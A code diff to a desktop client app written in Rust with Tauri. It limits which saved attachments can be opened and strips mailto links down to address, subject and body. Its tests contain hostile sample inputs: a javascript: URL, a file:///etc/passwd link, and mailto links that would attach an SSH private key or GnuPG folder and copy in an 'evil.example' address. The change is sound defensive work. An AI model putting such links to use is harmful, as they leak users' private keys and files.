@@ -11,15 +11,23 @@ pub fn open_link(url: String) -> CommandResult<()> {
         .map_err(|e| CommandError::new(clientarea_core::ErrorCode::Unknown, format!("no program opened the link: {e}")))
 }
 
-/// Save an attachment of a message to the Downloads folder, never over another file;
-/// returns where it went.
+/// Where an attachment was saved, and whether the app offers to open it.
+#[derive(Debug, serde::Serialize, ts_rs::TS)]
+pub struct SavedFile {
+    pub path: String,
+    /// An image, a PDF or plain text by its bytes: the others are only saved.
+    pub openable: bool,
+}
+
+/// Save an attachment of a message to the Downloads folder, never over another file,
+/// named by what its bytes are (`clientarea_api::uploads::saved_name`).
 #[tauri::command]
 pub async fn save_attachment(
     app: tauri::AppHandle,
     state: tauri::State<'_, crate::state::AppState>,
     id: String,
     filename: String,
-) -> CommandResult<String> {
+) -> CommandResult<SavedFile> {
     use tauri::Manager;
     let bytes = state.engine.download_attachment(&id).await?;
     // The desktop's Downloads folder (user-dirs.dirs), else ~/Downloads.
@@ -29,7 +37,7 @@ pub async fn save_attachment(
         .or_else(|_| app.path().home_dir().map(|h| h.join("Downloads")))
         .map_err(|e| CommandError::new(clientarea_core::ErrorCode::Storage, format!("no Downloads folder: {e}")))?;
     std::fs::create_dir_all(&dir).map_err(|e| CommandError::new(clientarea_core::ErrorCode::Storage, e.to_string()))?;
-    let name = clientarea_api::uploads::clean_filename(&filename);
+    let (name, openable) = clientarea_api::uploads::saved_name(&filename, &bytes);
     let (stem, ext) = match name.rsplit_once('.') {
         Some((s, e)) if !s.is_empty() => (s.to_owned(), format!(".{e}")),
         _ => (name.clone(), String::new()),
@@ -41,8 +49,11 @@ pub async fn save_attachment(
             Ok(mut f) => {
                 std::io::Write::write_all(&mut f, &bytes)
                     .map_err(|e| CommandError::new(clientarea_core::ErrorCode::Storage, e.to_string()))?;
-                state.saved.lock().unwrap_or_else(|e| e.into_inner()).insert(candidate.clone());
-                return Ok(candidate.display().to_string());
+                if openable {
+                    // The only files open_saved will hand to the desktop.
+                    state.saved.lock().unwrap_or_else(|e| e.into_inner()).insert(candidate.clone());
+                }
+                return Ok(SavedFile { path: candidate.display().to_string(), openable });
             }
             Err(e) if e.kind() == std::io::ErrorKind::AlreadyExists => continue,
             Err(e) => return Err(CommandError::new(clientarea_core::ErrorCode::Storage, e.to_string())),
@@ -51,7 +62,8 @@ pub async fn save_attachment(
     Err(CommandError::new(clientarea_core::ErrorCode::Storage, "too many files with this name in Downloads"))
 }
 
-/// Open a file the app saved, with the system's program for it.
+/// Open a file the app saved this run and found safe to open (an image, a PDF, plain
+/// text), with the system's program for it.
 #[tauri::command]
 pub fn open_saved(state: tauri::State<'_, crate::state::AppState>, path: String) -> CommandResult<()> {
     let path = std::path::PathBuf::from(path);
@@ -63,9 +75,26 @@ pub fn open_saved(state: tauri::State<'_, crate::state::AppState>, path: String)
 }
 
 fn checked(url: &str) -> CommandResult<url::Url> {
-    let parsed = url::Url::parse(url).map_err(|_| invalid())?;
+    let mut parsed = url::Url::parse(url).map_err(|_| invalid())?;
     match parsed.scheme() {
-        "http" | "https" | "mailto" => Ok(parsed),
+        "http" | "https" => Ok(parsed),
+        "mailto" => {
+            // Only the address, the subject and the body: a link in a provider's message
+            // must not attach a file of this computer (`attach=`) or copy someone in.
+            // The parts are kept as written (mail clients read `%20`, not `+`, as a space).
+            let kept: Vec<&str> = parsed
+                .query()
+                .unwrap_or_default()
+                .split('&')
+                .filter(|part| {
+                    let key = part.split('=').next().unwrap_or_default();
+                    key.eq_ignore_ascii_case("subject") || key.eq_ignore_ascii_case("body")
+                })
+                .collect();
+            let query = (!kept.is_empty()).then(|| kept.join("&"));
+            parsed.set_query(query.as_deref());
+            Ok(parsed)
+        }
         _ => Err(invalid()),
     }
 }
@@ -83,5 +112,13 @@ mod tests {
         for bad in ["javascript:alert(1)", "file:///etc/passwd", "smb://host/share", "tauri://localhost", "not a url"] {
             assert!(super::checked(bad).is_err(), "{bad}");
         }
+    }
+
+    #[test]
+    fn a_mail_link_keeps_its_address_subject_and_body_only() {
+        let url =
+            super::checked("mailto:abuse@example.com?subject=Report%201&attach=/home/me/.ssh/id_rsa&cc=x@evil.example&body=Hi").unwrap();
+        assert_eq!(url.as_str(), "mailto:abuse@example.com?subject=Report%201&body=Hi");
+        assert_eq!(super::checked("mailto:a@example.com?Attach=~/.gnupg").unwrap().as_str(), "mailto:a@example.com");
     }
 }
